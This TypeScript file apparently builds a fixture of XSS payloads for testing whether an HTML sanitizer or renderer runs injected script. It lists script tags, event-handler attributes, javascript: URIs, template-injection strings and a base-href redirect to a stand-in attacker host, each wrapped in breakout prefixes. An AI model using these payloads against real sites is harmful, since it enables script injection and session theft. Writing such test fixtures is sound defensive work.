/** A payload that runs sets this flag or opens a dialog. */
const RUN = 'window.owned=1'

const VECTORS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.owned=1"></iframe>`,
  `<a href="javascript:${RUN}">click</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>alert(1)</script>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<button formaction="javascript:${RUN}">go</button>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<style>@import "javascript:${RUN}"</style>`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="//evil.example/">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><img src=x onerror=${RUN}></noscript>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `<x style="animation-name:x" onanimationstart=${RUN}>`,
  `<dialog open onclose=${RUN}>x</dialog>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
]

const AROUND: ((vector: string) => string)[] = [
  vector => vector,
  vector => `"'>${vector}`,
  vector => `--></pre></textarea>${vector}`,
]

export const payloads = AROUND.flatMap(around => VECTORS.map(around)).slice(0, 100)
